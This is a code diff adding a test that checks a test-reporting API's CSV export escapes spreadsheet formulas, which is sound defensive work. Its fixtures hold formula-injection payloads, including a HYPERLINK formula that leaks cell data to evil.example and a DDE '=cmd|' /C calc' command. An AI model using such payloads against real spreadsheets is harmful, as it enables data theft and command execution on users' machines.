@@ -275,3 +275,22 @@ def test_huge_messages_are_read_a_bounded_amount_at_a_time(api, monkeypatch):
     parquet = pq.ParquetFile(io.BytesIO(r.content))
     assert parquet.metadata.num_rows == 12
     assert parquet.metadata.num_row_groups >= 12 * big // (budget + big)
+
+
+def test_csv_cells_cannot_be_spreadsheet_formulas(api):
+    """A title, suite, file, code, message, framework or run name a spreadsheet would run as a
+    formula is written as text (a leading apostrophe) in CSV, exactly as stored in NDJSON."""
+    project = api.project("Formulas")
+    evil = {"title": '=HYPERLINK("https://evil.example/?"&A2,"open")', "suite": "+1+1", "file": "@SUM(A1)",
+            "error_message": "-2+3", "framework": "\tx", "status": "FAILED"}
+    run = api.post("/api/v1/ingest", {"project_id": project["id"], "results": [evil, {"title": "a-b = c",
+                                      "status": "PASSED"}], "run_name": "=cmd|' /C calc'!A0"}).json()
+    rows = list(csv.DictReader(io.StringIO(_get(api, f"/api/v1/runs/{run['run_id']}/export", format="csv").text)))
+    bad = next(r for r in rows if r["status"] == "FAILED")
+    for column in ("title", "suite", "file", "error_message", "framework"):
+        assert bad[column] == "'" + evil[column], column
+    assert {r["run_name"] for r in rows} == {"'=cmd|' /C calc'!A0"}
+    assert next(r for r in rows if r["status"] == "PASSED")["title"] == "a-b = c"  # only the first character
+    lines = _get(api, f"/api/v1/runs/{run['run_id']}/export", format="ndjson").text.splitlines()
+    exact = next(json.loads(line) for line in lines if json.loads(line)["status"] == "FAILED")
+    assert exact["title"] == evil["title"] and exact["run_name"] == "=cmd|' /C calc'!A0"
